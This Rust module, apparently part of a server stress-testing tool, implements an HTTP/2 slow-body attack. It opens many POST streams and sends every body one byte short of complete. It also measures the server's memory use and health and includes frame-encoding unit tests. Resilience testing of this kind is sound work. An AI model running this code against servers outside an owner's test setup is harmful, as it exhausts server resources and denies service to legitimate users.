//! `attack h2`: HTTP/2 by prior knowledge over TLS. Each connection sends the preface, opens
//! `--streams` POST streams announcing `--body-bytes` and sends all but the last byte of every
//! body, within the flow-control windows the server grants, so no request ever completes.
//! A server that should not speak HTTP/2 answers the preface with an HTTP/1 error or closes.
//!
//! The frame and HPACK encoding here is the minimum RFC 9113 / RFC 7541 needs for this
//! (literal header fields, no Huffman, no dynamic table); [`parse_frame`] and the encoders are
//! pure functions with unit tests.

use std::collections::{BTreeMap, HashMap};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde::Serialize;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf};
use tokio::net::TcpStream;
use tokio::sync::Notify;
use tokio_rustls::client::TlsStream;

use super::probe::{HealthProber, RssSampler, lock};
use super::{AttackTarget, Outcome, bounded, bounded_duration, require_loopback};
use crate::cli::H2Args;

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
pub const PING: u8 = 6;
pub const GOAWAY: u8 = 7;
pub const WINDOW_UPDATE: u8 = 8;
pub const FLAG_ACK: u8 = 0x1;
pub const FLAG_END_HEADERS: u8 = 0x4;
/// RFC 9113 §6.5.2: the initial window and frame size before any SETTINGS.
pub const DEFAULT_WINDOW: i64 = 65_535;
pub const DEFAULT_MAX_FRAME: usize = 16_384;
/// Largest frame payload accepted from the server (its own MAX_FRAME_SIZE for us is 16 KiB
/// unless we raise it, which we do not).
const MAX_INBOUND_FRAME: usize = 1 << 24;

/// One frame as read from the server.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Frame {
    pub kind: u8,
    pub flags: u8,
    pub stream: u32,
    pub payload: Vec<u8>,
}

pub fn encode_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// Parses one frame from the start of `buf`: `Ok(None)` while incomplete, else the frame and
/// the bytes it took.
pub fn parse_frame(buf: &[u8]) -> Result<Option<(Frame, usize)>, String> {
    if buf.len() < 9 {
        return Ok(None);
    }
    let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
    if len > MAX_INBOUND_FRAME {
        return Err(format!("frame of {len} bytes"));
    }
    if buf.len() < 9 + len {
        return Ok(None);
    }
    let stream = u32::from_be_bytes([buf[5], buf[6], buf[7], buf[8]]) & 0x7fff_ffff;
    Ok(Some((
        Frame {
            kind: buf[3],
            flags: buf[4],
            stream,
            payload: buf[9..9 + len].to_vec(),
        },
        9 + len,
    )))
}

/// RFC 7541 §5.1 integer with an `n`-bit prefix (the prefix byte's high bits are `first`).
pub fn hpack_int(out: &mut Vec<u8>, first: u8, n: u32, mut v: usize) {
    let max = (1usize << n) - 1;
    if v < max {
        out.push(first | v as u8);
        return;
    }
    out.push(first | max as u8);
    v -= max;
    while v >= 128 {
        out.push((v % 128) as u8 | 0x80);
        v /= 128;
    }
    out.push(v as u8);
}

/// A header block of "literal header field without indexing, new name" entries (§6.2.2).
pub fn hpack_literal_block(headers: &[(&str, &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in headers {
        out.push(0x00);
        hpack_int(&mut out, 0, 7, name.len());
        out.extend_from_slice(name.as_bytes());
        hpack_int(&mut out, 0, 7, value.len());
        out.extend_from_slice(value.as_bytes());
    }
    out
}

/// SETTINGS payload pairs (identifier, value).
pub fn parse_settings(payload: &[u8]) -> Vec<(u16, u32)> {
    payload
        .chunks_exact(6)
        .map(|c| {
            (
                u16::from_be_bytes([c[0], c[1]]),
                u32::from_be_bytes([c[2], c[3], c[4], c[5]]),
            )
        })
        .collect()
}

/// Per-connection results, summed over connections in [`H2Result`].
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct H2Result {
    pub from: String,
    pub alpn_offered: String,
    /// ALPN the server selected (per connection, by value).
    pub alpn_selected: BTreeMap<String, u64>,
    pub conns_attempted: u64,
    pub conns_failed: u64,
    /// Connections on which the server answered the preface with its SETTINGS: it speaks h2.
    pub conns_h2_answered: u64,
    /// Connections on which the server answered with something else (first bytes, by value).
    pub conns_not_h2: BTreeMap<String, u64>,
    pub conns_goaway: u64,
    pub conns_closed_by_server: u64,
    /// The server's SETTINGS_MAX_CONCURRENT_STREAMS (the last one seen; null if never sent).
    pub server_max_concurrent_streams: Option<u32>,
    pub server_initial_window: Option<u32>,
    pub streams_opened: u64,
    /// Streams the server reset (RST_STREAM), e.g. REFUSED_STREAM beyond its limit.
    pub streams_reset: u64,
    /// Streams the server answered (a HEADERS frame) before their body was complete.
    pub streams_answered: u64,
    /// Opened, never reset nor answered: bodies the server was still waiting for at the end.
    pub streams_pending_at_end: u64,
    /// DATA payload bytes sent in total.
    pub body_bytes_sent: u64,
    pub errors: BTreeMap<String, u64>,
}

#[derive(Default)]
struct ConnState {
    settings_seen: bool,
    not_h2: Option<String>,
    closed: bool,
    goaway: bool,
    conn_window: i64,
    initial_window: i64,
    max_frame: usize,
    max_concurrent: Option<u32>,
    windows: HashMap<u32, i64>,
    reset: u64,
    answered: u64,
    error: Option<String>,
}

type Writer = Arc<tokio::sync::Mutex<WriteHalf<TlsStream<TcpStream>>>>;

async fn reader(
    mut rd: ReadHalf<TlsStream<TcpStream>>,
    writer: Writer,
    state: Arc<Mutex<ConnState>>,
    notify: Arc<Notify>,
) {
    let mut buf = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    loop {
        let n = match rd.read(&mut chunk).await {
            Ok(0) => 0,
            Ok(n) => n,
            Err(e) => {
                lock(&state).error.get_or_insert(format!("read: {e}"));
                0
            }
        };
        if n == 0 {
            lock(&state).closed = true;
            notify.notify_waiters();
            return;
        }
        buf.extend_from_slice(&chunk[..n]);
        if !lock(&state).settings_seen && buf.len() >= 5 && !is_settings_start(&buf) {
            let first = String::from_utf8_lossy(&buf[..buf.len().min(40)])
                .lines()
                .next()
                .unwrap_or_default()
                .to_string();
            let mut s = lock(&state);
            s.not_h2 = Some(first);
            s.closed = true;
            notify.notify_waiters();
            return;
        }
        loop {
            let (frame, used) = match parse_frame(&buf) {
                Ok(Some(f)) => f,
                Ok(None) => break,
                Err(e) => {
                    let mut s = lock(&state);
                    s.error.get_or_insert(e);
                    s.closed = true;
                    notify.notify_waiters();
                    return;
                }
            };
            buf.drain(..used);
            let reply = handle_frame(&mut lock(&state), &frame);
            if let Some(reply) = reply {
                let mut w = writer.lock().await;
                if w.write_all(&reply).await.is_err() {
                    lock(&state).closed = true;
                }
            }
            notify.notify_waiters();
        }
    }
}

fn is_settings_start(buf: &[u8]) -> bool {
    buf.len() >= 4 && buf[3] == SETTINGS
}

/// Applies a server frame to the connection state; returns the frame to answer with, if any.
fn handle_frame(s: &mut ConnState, f: &Frame) -> Option<Vec<u8>> {
    match f.kind {
        SETTINGS if f.flags & FLAG_ACK == 0 => {
            s.settings_seen = true;
            for (id, value) in parse_settings(&f.payload) {
                match id {
                    3 => s.max_concurrent = Some(value),
                    4 => {
                        let delta = value as i64 - s.initial_window;
                        s.initial_window = value as i64;
                        for w in s.windows.values_mut() {
                            *w += delta;
                        }
                    }
                    5 => s.max_frame = (value as usize).clamp(DEFAULT_MAX_FRAME, 1 << 20),
                    _ => {}
                }
            }
            Some(encode_frame(SETTINGS, FLAG_ACK, 0, &[]))
        }
        PING if f.flags & FLAG_ACK == 0 => Some(encode_frame(PING, FLAG_ACK, 0, &f.payload)),
        WINDOW_UPDATE if f.payload.len() == 4 => {
            let inc = (u32::from_be_bytes([f.payload[0], f.payload[1], f.payload[2], f.payload[3]])
                & 0x7fff_ffff) as i64;
            if f.stream == 0 {
                s.conn_window += inc;
            } else if let Some(w) = s.windows.get_mut(&f.stream) {
                *w += inc;
            }
            None
        }
        RST_STREAM => {
            if s.windows.remove(&f.stream).is_some() {
                s.reset += 1;
            }
            None
        }
        HEADERS => {
            if s.windows.remove(&f.stream).is_some() {
                s.answered += 1;
            }
            None
        }
        GOAWAY => {
            s.goaway = true;
            None
        }
        _ => None,
    }
}

/// What one connection did.
#[derive(Debug, Default)]
struct ConnOutcome {
    alpn: String,
    h2: bool,
    not_h2: Option<String>,
    goaway: bool,
    closed: bool,
    max_concurrent: Option<u32>,
    initial_window: Option<u32>,
    opened: u64,
    reset: u64,
    answered: u64,
    pending: u64,
    bytes: u64,
    error: Option<String>,
}

async fn one_connection(
    target: AttackTarget,
    a: H2Args,
    deadline: tokio::time::Instant,
) -> Result<ConnOutcome, String> {
    let tls = target.tls_with_alpn(a.alpn);
    let stream = super::raw::tls_from(&target, tls, a.from, Duration::from_secs(10)).await?;
    let alpn = stream
        .get_ref()
        .1
        .alpn_protocol()
        .map(|p| String::from_utf8_lossy(p).into_owned())
        .unwrap_or_else(|| "none".into());
    let (rd, wr) = tokio::io::split(stream);
    let writer: Writer = Arc::new(tokio::sync::Mutex::new(wr));
    let state = Arc::new(Mutex::new(ConnState {
        conn_window: DEFAULT_WINDOW,
        initial_window: DEFAULT_WINDOW,
        max_frame: DEFAULT_MAX_FRAME,
        ..ConnState::default()
    }));
    let notify = Arc::new(Notify::new());
    let read_task = tokio::spawn(reader(rd, writer.clone(), state.clone(), notify.clone()));
    let mut out = ConnOutcome {
        alpn,
        ..ConnOutcome::default()
    };
    let result = drive(&a, &target, &writer, &state, &notify, deadline, &mut out).await;
    // Hold until the deadline (the server keeps what it buffered), then report.
    let wait_closed = async {
        loop {
            let n = notify.notified();
            if lock(&state).closed {
                break;
            }
            n.await;
        }
    };
    let _ = tokio::time::timeout_at(deadline, wait_closed).await;
    read_task.abort();
    let s = lock(&state);
    out.h2 = s.settings_seen;
    // Every connection ends up as h2 or not: an HTTP/1 answer, a close, or silence.
    out.not_h2 = if s.settings_seen {
        None
    } else {
        Some(s.not_h2.clone().unwrap_or_else(|| {
            if s.closed {
                "(closed without an answer)".into()
            } else {
                "(no answer)".into()
            }
        }))
    };
    out.goaway = s.goaway;
    out.closed = s.closed;
    out.max_concurrent = s.max_concurrent;
    out.initial_window = s.settings_seen.then_some(s.initial_window as u32);
    out.reset = s.reset;
    out.answered = s.answered;
    out.pending = s.windows.len() as u64;
    out.error = result.err().or_else(|| s.error.clone());
    Ok(out)
}

async fn write(writer: &Writer, bytes: &[u8]) -> Result<(), String> {
    writer
        .lock()
        .await
        .write_all(bytes)
        .await
        .map_err(|e| format!("write: {e}"))
}

async fn drive(
    a: &H2Args,
    target: &AttackTarget,
    writer: &Writer,
    state: &Arc<Mutex<ConnState>>,
    notify: &Notify,
    deadline: tokio::time::Instant,
    out: &mut ConnOutcome,
) -> Result<(), String> {
    let mut hello = PREFACE.to_vec();
    hello.extend(encode_frame(SETTINGS, 0, 0, &[]));
    write(writer, &hello).await?;
    // The server's SETTINGS come first (or an HTTP/1 answer, or a close).
    let settled = async {
        loop {
            let n = notify.notified();
            {
                let s = lock(state);
                if s.settings_seen || s.closed {
                    return;
                }
            }
            n.await;
        }
    };
    if tokio::time::timeout(Duration::from_secs(5), settled)
        .await
        .is_err()
    {
        return Err("no answer to the HTTP/2 preface within 5 s".into());
    }
    if !lock(state).settings_seen {
        return Ok(());
    }
    let length = a.body_bytes.to_string();
    let block = hpack_literal_block(&[
        (":method", "POST"),
        (":scheme", "https"),
        (":path", &a.path),
        (":authority", &target.authority),
        ("content-type", "application/json"),
        ("content-length", &length),
    ]);
    let mut remaining: Vec<(u32, usize)> = Vec::with_capacity(a.streams);
    for i in 0..a.streams {
        let id = 2 * i as u32 + 1;
        {
            let mut s = lock(state);
            if s.closed {
                break;
            }
            let w = s.initial_window;
            s.windows.insert(id, w);
        }
        out.opened += 1;
        write(writer, &encode_frame(HEADERS, FLAG_END_HEADERS, id, &block)).await?;
        remaining.push((id, a.body_bytes.saturating_sub(1)));
    }
    // Round-robin DATA within the windows until every body is one byte short of done.
    let filler = vec![b' '; 1 << 20];
    while tokio::time::Instant::now() < deadline {
        let waiter = notify.notified();
        let mut progressed = false;
        let mut all_done = true;
        for (id, left) in remaining.iter_mut() {
            if *left == 0 {
                continue;
            }
            let chunk = {
                let mut s = lock(state);
                if s.closed {
                    return Ok(());
                }
                let Some(&sw) = s.windows.get(id) else {
                    *left = 0; // reset or answered: nothing more to send
                    continue;
                };
                all_done = false;
                let n = (*left as i64)
                    .min(s.max_frame as i64)
                    .min(s.conn_window)
                    .min(sw);
                if n <= 0 {
                    continue;
                }
                s.conn_window -= n;
                if let Some(w) = s.windows.get_mut(id) {
                    *w -= n;
                }
                n as usize
            };
            write(writer, &encode_frame(DATA, 0, *id, &filler[..chunk])).await?;
            *left -= chunk;
            out.bytes += chunk as u64;
            progressed = true;
        }
        if all_done || remaining.iter().all(|(_, l)| *l == 0) {
            return Ok(());
        }
        if !progressed {
            // Blocked on flow control: wait for a WINDOW_UPDATE (or the deadline).
            let _ = tokio::time::timeout_at(deadline, waiter).await;
        }
    }
    Ok(())
}

pub async fn run(target: &AttackTarget, a: &H2Args) -> anyhow::Result<Outcome> {
    require_loopback("--from", a.from)?;
    bounded("--conns", a.conns, 1, 1_000)?;
    bounded("--streams", a.streams, 1, 10_000)?;
    bounded("--body-bytes", a.body_bytes, 2, 64 << 20)?;
    let duration = bounded_duration("--duration", a.duration)?;
    let rss = RssSampler::start(&a.common.server_pid, a.common.sample_every);
    let health = HealthProber::start(target, a.common.probe_from, a.common.sample_every);
    let t0 = Instant::now();
    let deadline = tokio::time::Instant::now() + duration;
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..a.conns {
        tasks.spawn(one_connection(target.clone(), a.clone(), deadline));
    }
    let mut r = H2Result {
        from: a.from.to_string(),
        alpn_offered: format!("{:?}", a.alpn).to_lowercase(),
        conns_attempted: a.conns as u64,
        ..H2Result::default()
    };
    let mut outcomes = Vec::new();
    while let Some(done) = tasks.join_next().await {
        match done {
            Ok(Ok(o)) => outcomes.push(o),
            Ok(Err(e)) => {
                r.conns_failed += 1;
                *r.errors.entry(e).or_default() += 1;
            }
            Err(e) => {
                r.conns_failed += 1;
                *r.errors.entry(format!("task: {e}")).or_default() += 1;
            }
        }
    }
    // RSS before the sockets close: every connection task returned at the deadline.
    let rss = rss.map(RssSampler::finish);
    let health = health.finish(target, a.common.probe_from).await;
    for o in outcomes {
        *r.alpn_selected.entry(o.alpn).or_default() += 1;
        r.conns_h2_answered += o.h2 as u64;
        if let Some(first) = o.not_h2 {
            *r.conns_not_h2.entry(first).or_default() += 1;
        }
        r.conns_goaway += o.goaway as u64;
        r.conns_closed_by_server += o.closed as u64;
        r.server_max_concurrent_streams = o.max_concurrent.or(r.server_max_concurrent_streams);
        r.server_initial_window = o.initial_window.or(r.server_initial_window);
        r.streams_opened += o.opened;
        r.streams_reset += o.reset;
        r.streams_answered += o.answered;
        r.streams_pending_at_end += o.pending;
        r.body_bytes_sent += o.bytes;
        if let Some(e) = o.error {
            *r.errors.entry(e).or_default() += 1;
        }
    }
    let summary = format!(
        "  HTTP/2 prior knowledge from {} (ALPN offered {}, selected {:?}), {:.0}s: {} of {} \
         connections answered h2 (not h2: {:?}), max concurrent streams {:?}, initial window {:?}\n  \
         streams opened {}, reset {}, answered early {}, pending at end {}; body bytes sent {}\n{}",
        r.from,
        r.alpn_offered,
        r.alpn_selected,
        t0.elapsed().as_secs_f64(),
        r.conns_h2_answered,
        r.conns_attempted,
        r.conns_not_h2,
        r.server_max_concurrent_streams,
        r.server_initial_window,
        r.streams_opened,
        r.streams_reset,
        r.streams_answered,
        r.streams_pending_at_end,
        crate::util::fmt_bytes(r.body_bytes_sent as f64),
        super::idle::error_lines(&r.errors),
    );
    Ok(Outcome {
        result: serde_json::to_value(&r)?,
        summary,
        rss,
        healthz: Some(health),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_round_trip() {
        let f = encode_frame(HEADERS, FLAG_END_HEADERS, 7, b"abc");
        assert_eq!(&f[..9], &[0, 0, 3, 1, 4, 0, 0, 0, 7]);
        let (frame, used) = parse_frame(&f).unwrap().unwrap();
        assert_eq!(used, 12);
        assert_eq!((frame.kind, frame.flags, frame.stream), (HEADERS, 4, 7));
        assert_eq!(parse_frame(&f[..11]).unwrap(), None);
    }

    #[test]
    fn hpack_integers_and_literals() {
        // RFC 7541 C.1.2: 1337 with a 5-bit prefix.
        let mut out = Vec::new();
        hpack_int(&mut out, 0, 5, 1337);
        assert_eq!(out, vec![31, 154, 10]);
        let block = hpack_literal_block(&[(":path", "/x")]);
        assert_eq!(block, b"\x00\x05:path\x02/x".to_vec());
    }

    #[test]
    fn flow_control_accounting() {
        let mut s = ConnState {
            conn_window: DEFAULT_WINDOW,
            initial_window: DEFAULT_WINDOW,
            ..ConnState::default()
        };
        s.windows.insert(1, DEFAULT_WINDOW);
        s.windows.insert(3, DEFAULT_WINDOW);
        // SETTINGS: max streams 200, initial window 1 MiB → answered with an ACK.
        let mut p = Vec::new();
        for (id, v) in [(3u16, 200u32), (4, 1 << 20)] {
            p.extend_from_slice(&id.to_be_bytes());
            p.extend_from_slice(&v.to_be_bytes());
        }
        let ack = handle_frame(
            &mut s,
            &Frame {
                kind: SETTINGS,
                flags: 0,
                stream: 0,
                payload: p,
            },
        );
        assert_eq!(ack, Some(encode_frame(SETTINGS, FLAG_ACK, 0, &[])));
        assert_eq!(s.max_concurrent, Some(200));
        assert_eq!(s.windows[&1], 1 << 20);
        let wu = |stream, inc: u32| Frame {
            kind: WINDOW_UPDATE,
            flags: 0,
            stream,
            payload: inc.to_be_bytes().to_vec(),
        };
        handle_frame(&mut s, &wu(0, 1000));
        assert_eq!(s.conn_window, DEFAULT_WINDOW + 1000);
        let rst = Frame {
            kind: RST_STREAM,
            flags: 0,
            stream: 3,
            payload: 7u32.to_be_bytes().to_vec(),
        };
        handle_frame(&mut s, &rst);
        handle_frame(&mut s, &rst);
        assert_eq!((s.reset, s.windows.len()), (1, 1), "a reset counts once");
    }
}
